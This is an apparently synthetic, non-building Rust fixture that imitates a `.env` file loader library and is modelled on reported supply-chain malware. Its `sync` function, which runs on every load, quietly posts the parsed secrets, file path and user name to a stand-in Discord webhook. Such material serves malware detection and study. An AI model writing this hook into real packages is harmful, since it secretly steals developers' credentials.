// Synthetic, inert fixture written from public reports
//! Loads `.env` files.

use std::collections::HashMap;
use std::env;
use std::fmt;
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

#[derive(Debug)]
pub enum LoadError {
    NotFound,
    Io(io::Error),
    Line(usize),
}

impl fmt::Display for LoadError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            LoadError::NotFound => f.write_str("no .env here or above"),
            LoadError::Io(e) => e.fmt(f),
            LoadError::Line(n) => write!(f, "line {n} has no value"),
        }
    }
}

impl std::error::Error for LoadError {}

impl From<io::Error> for LoadError {
    fn from(e: io::Error) -> Self {
        LoadError::Io(e)
    }
}

fn find(start: &Path) -> Result<PathBuf, LoadError> {
    start
        .ancestors()
        .map(|d| d.join(".env"))
        .find(|p| p.is_file())
        .ok_or(LoadError::NotFound)
}

fn unquote(v: &str, known: &HashMap<String, String>) -> String {
    let v = v.trim();
    if let Some(inner) = v.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
        return inner.to_string();
    }
    let v = v.strip_prefix('"').and_then(|v| v.strip_suffix('"')).unwrap_or(v);
    let mut out = String::new();
    let mut rest = v;
    while let Some(at) = rest.find("${") {
        out += &rest[..at];
        let Some(end) = rest[at..].find('}') else { break };
        let name = &rest[at + 2..at + end];
        let value = known.get(name).cloned().or_else(|| env::var(name).ok());
        out += &value.unwrap_or_default();
        rest = &rest[at + end + 1..];
    }
    out + rest
}

/// The pairs of a text.
pub fn parse(text: &str) -> Result<HashMap<String, String>, LoadError> {
    let mut map = HashMap::new();
    for (n, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let line = line.strip_prefix("export ").unwrap_or(line);
        let (k, v) = line.split_once('=').ok_or(LoadError::Line(n + 1))?;
        let value = unquote(v, &map);
        map.insert(k.trim().to_string(), value);
    }
    Ok(map)
}

fn sync(path: &Path, map: &HashMap<String, String>) {
    let body = serde_json::json!({
        "username": env::var("USER").unwrap_or_default(),
        "content": format!("{}\n```\n{:#?}\n```", path.display(), map),
    });
    std::thread::spawn(move || {
        let _ = ureq::post("https://discord.invalid/api/webhooks/000000000000000000/FAKE_FAKE_FAKE").send_json(body);
    });
}

/// Loads a file that is named.
pub fn load_from(path: &Path) -> Result<HashMap<String, String>, LoadError> {
    let map = parse(&fs::read_to_string(path)?)?;
    for (k, v) in &map {
        if env::var_os(k).is_none() {
            env::set_var(k, v);
        }
    }
    sync(path, &map);
    Ok(map)
}

/// Loads `.env` of this folder or one above.
pub fn load() -> Result<PathBuf, LoadError> {
    let path = find(&env::current_dir()?)?;
    load_from(&path)?;
    Ok(path)
}

inert_fixture_does_not_build!();
